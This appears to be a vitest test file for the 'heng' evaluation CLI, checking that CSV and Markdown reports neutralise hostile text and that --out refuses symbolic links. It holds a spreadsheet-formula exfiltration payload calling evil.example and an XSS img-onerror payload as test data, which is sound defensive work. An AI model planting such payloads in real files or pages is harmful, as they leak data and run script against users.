// A run whose model answers with spreadsheet formulas and whose config name
// is HTML, reported through the real CLI: the CSV cells are neutralised, the
// Markdown carries the name as text, and --out never writes through a link.
import { lstatSync, mkdtempSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runHeng } from '../helpers/cli.js';
import { startOpenAIServer, type OpenAIServer } from '../helpers/openai-server.js';
import { testDb } from '../helpers/test-db.js';

let server: OpenAIServer;
let dir: string;
let db: string;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const NAME = '<img src=x onerror=alert(1)> [click](http://evil.example) *bold*';

beforeAll(async () => {
  server = await startOpenAIServer();
  server.setScript(() => ({ kind: 'answer', text: FORMULA }));
  dir = mkdtempSync(path.join(tmpdir(), 'heng-hostile-'));
  db = await testDb(dir, 'h.db');
  writeFileSync(
    path.join(dir, 'heng.yaml'),
    `name: ${JSON.stringify(NAME)}
providers:
  - { id: echo, type: openai-compatible, baseUrl: ${server.url}/v1, model: m, apiKey: "\${env:HENG_CLI_KEY}" }
tasks:
  - id: t
    items: [{ id: q0, question: "hi", answer: "2" }, { id: q1, question: "hi", answer: "3" }]
    prompt: { user: "{{question}}" }
    scorers: [{ type: exact }]
run: { retries: 0 }
`,
  );
  const r = await runHeng(['run', path.join(dir, 'heng.yaml'), '--db', db], { env: { HENG_CLI_KEY: 'k' } });
  expect(r.stderr).not.toMatch(/error:/i);
});
afterAll(() => server.close());

describe('reports of hostile text', () => {
  it('report.csv neutralises answers a spreadsheet would run as formulas', async () => {
    const csv = await runHeng(['report', 'latest', '--db', db, '--format', 'csv']);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('report.md carries the config name as text: no raw HTML, no link', async () => {
    const md = await runHeng(['report', 'latest', '--db', db, '--format', 'md']);
    expect(md.code, md.stderr).toBe(0);
    const title = md.stdout.split('\n')[0];
    expect(title).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(title).not.toContain('<img');
    expect(title).toContain('\\[click\\](http://evil.example) \\*bold\\*');
  });

  it('--out refuses a symbolic link (the file it points to is untouched) and replaces a regular file', async () => {
    const victim = path.join(dir, 'victim.txt');
    writeFileSync(victim, 'system file');
    const link = path.join(dir, 'report.md');
    symlinkSync(victim, link);
    const r = await runHeng(['report', 'latest', '--db', db, '--format', 'md', '--out', link]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('is a symbolic link');
    expect(readFileSync(victim, 'utf8')).toBe('system file');
    expect(readlinkSync(link)).toBe(victim);
    const plain = path.join(dir, 'plain.md');
    writeFileSync(plain, 'old');
    const ok = await runHeng(['report', 'latest', '--db', db, '--format', 'md', '--out', plain]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(lstatSync(plain).isFile()).toBe(true);
    expect(readFileSync(plain, 'utf8')).toContain('# Heng evaluation report');
  });
});
